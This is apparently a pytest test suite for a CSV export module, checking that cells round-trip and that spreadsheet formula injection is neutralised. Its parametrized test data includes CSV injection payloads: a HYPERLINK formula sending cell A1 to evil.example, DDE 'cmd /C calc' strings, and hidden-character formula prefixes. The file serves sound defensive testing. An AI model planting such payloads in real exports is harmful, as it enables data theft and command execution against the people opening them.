"""CSV files: what a reader gets back, and what a spreadsheet must never be made to run."""

import csv
import io
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.kit import csv_writing
from app.kit.csv_writing import Cell

texts = st.text(st.characters(exclude_categories=["Cs"]))
FORMULA_SIGNS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"


def read_back(written: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(written, newline=""), strict=True))


async def one_by_one(rows: Sequence[Sequence[Cell]]) -> AsyncIterator[Sequence[Cell]]:
    for row in rows:
        yield row


async def chunks_of(header: Sequence[str], rows: Sequence[Sequence[Cell]]) -> list[str]:
    return [chunk async for chunk in csv_writing.stream(header, one_by_one(rows))]


@given(st.lists(texts, min_size=1, max_size=8))
def test_a_reader_gets_the_texts_back(cells: list[str]) -> None:
    (row,) = read_back(csv_writing.line(cells))
    assert row == [csv_writing.harmless(cell) for cell in cells]


@given(texts)
def test_a_text_changes_by_an_apostrophe_in_front_or_not_at_all(text: str) -> None:
    assert csv_writing.harmless(text) in {text, f"'{text}"}


@given(st.sampled_from(FORMULA_SIGNS), texts)
def test_no_text_starts_a_formula(sign: str, rest: str) -> None:
    assert csv_writing.harmless(sign + rest) == f"'{sign}{rest}"
    assert csv_writing.harmless(f" {sign}{rest}") == f"' {sign}{rest}"


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "\N{FULLWIDTH EQUALS SIGN}1+1",
        "\N{NO-BREAK SPACE}=1+1",
        "\N{ZERO WIDTH NO-BREAK SPACE}=1+1",
        '";=1+1',
        '",=1+1,"',
    ],
)
def test_known_attacks_stay_one_harmless_cell(attack: str) -> None:
    ((before, cell, after),) = read_back(csv_writing.line(["left", attack, "right"]))
    assert (before, after) == ("left", "right")
    assert cell.endswith(attack)
    assert not cell.lstrip().startswith(tuple(FORMULA_SIGNS))


@pytest.mark.parametrize("harmless", ["", "Acme", "'tis", "a=b", "Łukasz", "李雷", "10-3", " x"])
def test_other_texts_stay_as_they_are(harmless: str) -> None:
    assert csv_writing.field(harmless) == f'"{harmless}"'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (None, ""),
        (0, "0"),
        (-5_000, "-5000"),
        (10**30, "1" + "0" * 30),
        (Decimal("-12.50"), "-12.50"),
        (Decimal("1E+3"), "1000"),
        (date(2026, 11, 30), "2026-11-30"),
        (datetime(2026, 11, 30, 8, 15, tzinfo=UTC), "2026-11-30T08:15:00+00:00"),
        ('say "hi"', '"say ""hi"""'),
        ("two\r\nlines", '"two\r\nlines"'),
    ],
)
def test_each_kind_of_cell(cell: Cell, written: str) -> None:
    assert csv_writing.field(cell) == written


@given(st.integers(), st.decimals(allow_nan=False, allow_infinity=False))
def test_numbers_stay_numbers(whole: int, exact: Decimal) -> None:
    ((first, second),) = read_back(csv_writing.line([whole, exact]))
    assert int(first) == whole
    assert Decimal(second) == exact


@pytest.mark.parametrize("cell", [1.5, True, b"x", ["x"]])
def test_what_no_column_holds_is_refused(cell: Any) -> None:
    with pytest.raises(TypeError):
        csv_writing.field(cell)


@pytest.mark.parametrize(
    "cell",
    [Decimal("NaN"), Decimal("Infinity"), datetime(2026, 1, 1, tzinfo=UTC).replace(tzinfo=None)],
)
def test_what_has_no_exact_meaning_is_refused(cell: Cell) -> None:
    with pytest.raises(ValueError, match=r"finite|time zone"):
        csv_writing.field(cell)


async def test_a_file_is_its_header_and_its_rows() -> None:
    chunks = await chunks_of(["number", "net"], [["RE-1", 100], ["RE-2", -100]])
    assert "".join(chunks) == '"number","net"\r\n"RE-1",100\r\n"RE-2",-100\r\n'


async def test_an_empty_file_has_its_header() -> None:
    assert await chunks_of(["number"], []) == ['"number"\r\n']


async def test_a_row_of_another_length_is_refused() -> None:
    with pytest.raises(ValueError, match="number of cells"):
        await chunks_of(["number", "net"], [["RE-1"]])


async def test_rows_are_read_only_as_the_file_is_written() -> None:
    taken = 0

    async def rows() -> AsyncIterator[Sequence[Cell]]:
        nonlocal taken
        for _ in range(10_000):
            taken += 1
            yield ["x" * 100]

    stream = csv_writing.stream(["text"], rows())
    first = await anext(stream)
    assert taken < 1_000
    rest = "".join([chunk async for chunk in stream])
    assert len(read_back(first + rest)) == 10_001


async def test_a_file_that_ends_with_a_full_chunk_has_no_empty_one() -> None:
    chunks = await chunks_of(["text"], [["x" * 70_000]])
    assert len(chunks) == 1
